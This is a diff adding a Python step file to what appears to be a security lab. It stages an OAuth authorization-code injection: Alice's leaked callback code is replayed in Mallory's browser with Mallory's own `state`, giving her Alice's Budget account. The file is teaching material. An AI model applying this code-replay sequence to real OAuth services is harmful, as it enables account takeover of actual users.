@@ -1,0 +1,37 @@
+"""A code is carried from Alice's browser into Mallory's, and Budget does the rest."""
+
+from urllib.parse import urlencode
+
+from labs.people import told_in
+from labs.stage import Stage
+from labs.steps import step
+
+
+@step("Alice", by_hand="{budget}/connect")
+def alice_connects(stage: Stage) -> None:
+    """Connect Budget to the bank: sign in as alice, and allow; the page after that never loads."""
+    stage.alice.holds_back = stage.callback("budget")
+    stage.alice.go(f"{stage.here.budget}/connect").agree()
+
+
+@step("attacker", asks="the address of the callback with ?code= in it: the browser shows it")
+def reads_the_history(stage: Stage) -> None:
+    """Read the address in the browser's history, and keep its code."""
+    stage.kept["code"] = stage.leak("history", stage.given or stage.alice.handed_over).get("code", "")
+
+
+@step("attacker")
+def mallory_begins_her_own_flow(stage: Stage) -> None:
+    """Press "Connect" at Budget in Mallory's browser, and go no further than Bank ID's door: `state` is enough."""
+    stage.mallory.holds_back = f"{stage.here.auth}/login"
+    stage.mallory.go(f"{stage.here.budget}/connect")
+    stage.kept["state"] = told_in(stage.mallory.visited("/authorize"))["state"]
+
+
+@step("attacker")
+def mallory_brings_alices_code(stage: Stage) -> None:
+    """Open Budget's callback in Mallory's browser, with her `state` and Alice's code; then look at the account."""
+    answer = {"code": stage.kept.get("code", ""), "state": stage.kept.get("state", ""), "iss": stage.here.auth}
+    stage.mallory.holds_back = ""
+    stage.mallory.go(f"{stage.callback('budget')}?{urlencode(answer)}")
+    stage.mallory.go(f"{stage.here.budget}/")
